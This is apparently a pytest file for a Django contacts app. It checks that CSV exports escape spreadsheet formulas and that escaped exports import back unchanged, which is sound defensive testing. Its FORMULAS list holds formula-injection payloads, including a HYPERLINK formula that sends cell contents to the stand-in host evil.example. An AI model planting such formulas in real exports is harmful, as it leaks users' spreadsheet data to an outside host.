"""CSV exports are safe to open in a spreadsheet (no formula runs) and import back as they were (issue 15, point 14)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from campaigns.models import CampaignRecipient
from campaigns.selectors import campaign_recipients_csv
from contacts.models import Contact
from contacts.services import contact_import_create, contact_import_run, contact_import_start
from tests.campaigns.factories import campaign_make, setup_provider
from tests.providers.factories import contact_make
from whatsapp_project.csv_cells import cell_guard, cell_unguard

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


@pytest.fixture(autouse=True)
def _import_dir(settings: Any, tmp_path: Path) -> None:
    settings.CONTACT_IMPORT_DIR = tmp_path / "imports"


@pytest.fixture
def marketer(client: Client, marketer_user: Any) -> Client:
    client.force_login(marketer_user)
    return client


def _rows(content: bytes | str) -> list[dict[str, str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_written_as_text(formula: str) -> None:
    assert cell_guard(formula) == "'" + formula
    assert cell_unguard(cell_guard(formula)) == formula


@pytest.mark.parametrize("plain", ["+447700900001", "-12.5", "42", "Ann", "", "'quoted"])
def test_numbers_and_plain_text_are_left_alone(plain: str) -> None:
    assert cell_guard(plain) == plain
    assert cell_unguard(plain) == plain


def test_contacts_export_neutralises_every_formula_but_keeps_phone_numbers(marketer: Client) -> None:
    for index, formula in enumerate(FORMULAS):
        contact_make(phone=f"+44770090000{index}", name=formula, properties={"note": formula})
    exported = _rows(b"".join(marketer.get("/contacts/export/").streaming_content))  # type: ignore[attr-defined]
    assert {row["name"] for row in exported} == {"'" + formula for formula in FORMULAS}
    assert all(row["phone"].startswith("+4477009") for row in exported)


def test_campaign_recipients_export_neutralises_names() -> None:
    provider, template = setup_provider()
    campaign = campaign_make(provider=provider, template=template)
    contact = contact_make(phone="+447700900001", name=FORMULAS[0])
    CampaignRecipient.objects.create(campaign=campaign, contact=contact, phone=contact.phone)
    (row,) = _rows("".join(campaign_recipients_csv(campaign=campaign)))
    assert row["name"] == "'" + FORMULAS[0] and row["phone"] == "+447700900001"


def test_import_refusals_export_neutralises_the_original_cells(marketer: Client) -> None:
    content = ("phone,name\nnot-a-phone," + FORMULAS[0].replace('"', '""').join('""') + "\n").encode()
    job = contact_import_create(upload=SimpleUploadedFile("c.csv", content), user=None)
    job = contact_import_run(contact_import=contact_import_start(contact_import=job))
    response = marketer.get(f"/contacts/imports/{job.pk}/errors.csv")
    (row,) = _rows(b"".join(response.streaming_content))  # type: ignore[attr-defined]
    assert row["name"] == "'" + FORMULAS[0]
    assert row["phone"] == "not-a-phone"


def test_an_export_imports_back_as_it_was(marketer: Client) -> None:
    for index, formula in enumerate(FORMULAS[:4]):
        contact_make(phone=f"+44770090000{index}", name=formula, external_id=f"@ext-{index}")
    exported = b"".join(marketer.get("/contacts/export/").streaming_content)  # type: ignore[attr-defined]
    before = sorted(Contact.objects.values_list("external_id", "phone", "name"))
    Contact.objects.all().delete()
    columns = next(csv.reader(io.StringIO(exported.decode())))
    mapping = {c: c if c in ("external_id", "phone", "name") else "ignore" for c in columns}
    job = contact_import_create(upload=SimpleUploadedFile("export.csv", exported), user=None)
    job = contact_import_run(contact_import=contact_import_start(contact_import=job, mapping=mapping))
    assert job.created_count == 4 and job.invalid_count == 0
    assert sorted(Contact.objects.values_list("external_id", "phone", "name")) == before
